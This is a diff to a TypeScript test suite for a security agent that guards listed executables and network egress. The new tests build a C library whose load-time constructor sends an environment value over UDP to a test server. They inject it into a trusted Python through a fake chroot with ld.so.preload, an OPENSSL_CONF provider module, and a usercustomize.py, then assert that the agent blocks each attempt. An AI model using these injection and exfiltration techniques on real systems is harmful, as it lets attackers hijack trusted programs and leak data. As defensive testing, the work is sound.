@@ -1,7 +1,8 @@
 /** Section 3: whoever wants to be taken for a listed executable without being it. Each attack works without what stops it. */
 import assert from "node:assert/strict";
+import { execFileSync } from "node:child_process";
 import { copyFileSync, mkdirSync, renameSync, rmdirSync, writeFileSync } from "node:fs";
-import { join } from "node:path";
+import { dirname, join } from "node:path";
 import { test } from "node:test";
 import type { EgressRules } from "../../src/api/types.ts";
 import { cgroupRoot } from "../../src/node-agent/kernel/mounts.ts";
@@ -85,6 +86,52 @@ for (const [what, command] of Object.entries(MOUNTS)) {
   });
 }
 
+/** A library that sends the text in the variable TAG as soon as it is loaded. Exit status as that of the client. */
+const LIBRARY = `#include <arpa/inet.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/time.h>
+#include <unistd.h>
+__attribute__((constructor)) static void run(void)
+{
+	struct sockaddr_in server = { .sin_family = AF_INET, .sin_port = htons(7000) };
+	struct timeval wait = { .tv_sec = 1 };
+	int s = socket(AF_INET, SOCK_DGRAM, 0);
+	char *tag = getenv("TAG"), byte;
+	inet_pton(AF_INET, "${SERVER}", &server.sin_addr);
+	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof(wait));
+	sendto(s, tag, strlen(tag), 0, (void *)&server, sizeof(server));
+	_exit(recv(s, &byte, 1, 0) == 1 ? 0 : 3);
+}`;
+
+const library = lab.path("library.so");
+execFileSync("gcc", ["-shared", "-fPIC", "-x", "c", "-o", library, "-"], { input: LIBRARY });
+
+/** A folder with the linker and the libraries that the program wants, and one that the linker loads before all others. */
+function makeRoot(folder: string, program: string): string {
+  for (const file of execFileSync("ldd", [program], { encoding: "utf8" }).match(/\/\S+/g) ?? []) {
+    mkdirSync(dirname(join(folder, file)), { recursive: true });
+    copyFileSync(file, join(folder, file));
+  }
+  mkdirSync(join(folder, "etc"), { recursive: true });
+  writeFileSync(join(folder, "etc", "ld.so.preload"), "/library.so\n");
+  copyFileSync(library, join(folder, "library.so"));
+  return folder;
+}
+
+test("§3 attack: a listed program's own file is executed in another root directory (chroot), and gets the libraries there", async () => {
+  const [mark, tag] = [lab.agent.events.mark(), lab.tag()];
+  const verbs = `rootexec ${makeRoot(lab.path("evil-root"), python)} ${python}`;
+  const { code, stderr } = await lab.run(shop, stranger, verbs, { environment: { TAG: tag } });
+  assert.equal(code, 3, stderr);
+  await lab.violation({ reason: "BinaryModified", path: python }, mark);
+  assert.deepEqual(await lab.servers.received(tag), []);
+});
+
+test("§3 attack: a listed program is executed while another process shares its root directory, and can change it", async () => {
+  await lab.stops(shop, stranger, `sharedrootexec ${app} ${SEND}`, { reason: "BinaryModified", path: app });
+});
+
 test("§3 attack: a file that has no name yet (O_TMPFILE)", async () => {
   const [mark, tag] = [lab.agent.events.mark(), lab.tag()];
   const program = `import os, sys
@@ -130,6 +177,14 @@ const VARIABLES: Record<string, { program: string; verbs?: string; variable: str
         `import socket, os\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(1)\n` +
         `s.sendto(b"${tag}", ("${SERVER}", 7000))\ntry: s.recv(9)\nexcept TimeoutError: os._exit(3)\n`,
     },
+    PYTHONUSERBASE: { program: python, verbs: "-c 0", variable: "PYTHONUSERBASE" },
+    OPENSSL_CONF: {
+      program: python,
+      verbs: "-c import\tssl",
+      variable: "OPENSSL_CONF",
+      code: () =>
+        `openssl_conf = init\n[init]\nproviders = all\n[all]\nevil = evil\n[evil]\nmodule = ${library}\nactivate = 1\n`,
+    },
     LD_PRELOAD: { program: app, variable: "LD_PRELOAD" },
     "LD_LIBRARY_PATH, behind 600 other variables": { program: app, variable: "LD_LIBRARY_PATH" },
   };
@@ -142,11 +197,22 @@ function environmentOf(what: string, tag: string): NodeJS.ProcessEnv {
   mkdirSync(folder);
   const file = join(folder, "sitecustomize.py");
   writeFileSync(file, attack.code?.(tag) ?? "");
-  const value = { BASH_ENV: file, PYTHONPATH: folder, LD_PRELOAD: "/lib/x86_64-linux-gnu/libm.so.6" }[attack.variable];
+  writeUserSite(folder);
+  const value = { BASH_ENV: file, OPENSSL_CONF: file, LD_PRELOAD: "/lib/x86_64-linux-gnu/libm.so.6" }[attack.variable];
   const others = what.includes("behind")
     ? Array.from({ length: 600 }, (_, index) => [`OTHER_${index}`, "x".repeat(9)])
     : [];
-  return { PATH: process.env.PATH, ...Object.fromEntries(others), [attack.variable]: value ?? folder };
+  return { PATH: process.env.PATH, TAG: tag, ...Object.fromEntries(others), [attack.variable]: value ?? folder };
+}
+
+/** A folder of modules of a user's own, from which Python takes one at each start. */
+function writeUserSite(folder: string): void {
+  const version = execFileSync(python, ["-c", "import sys; print('%d.%d' % sys.version_info[:2])"], {
+    encoding: "utf8",
+  });
+  const site = join(folder, "lib", `python${version.trim()}`, "site-packages");
+  mkdirSync(site, { recursive: true });
+  writeFileSync(join(site, "usercustomize.py"), `import ctypes; ctypes.CDLL("${library}")`);
 }
 
 for (const [what, { program, verbs }] of Object.entries(VARIABLES)) {
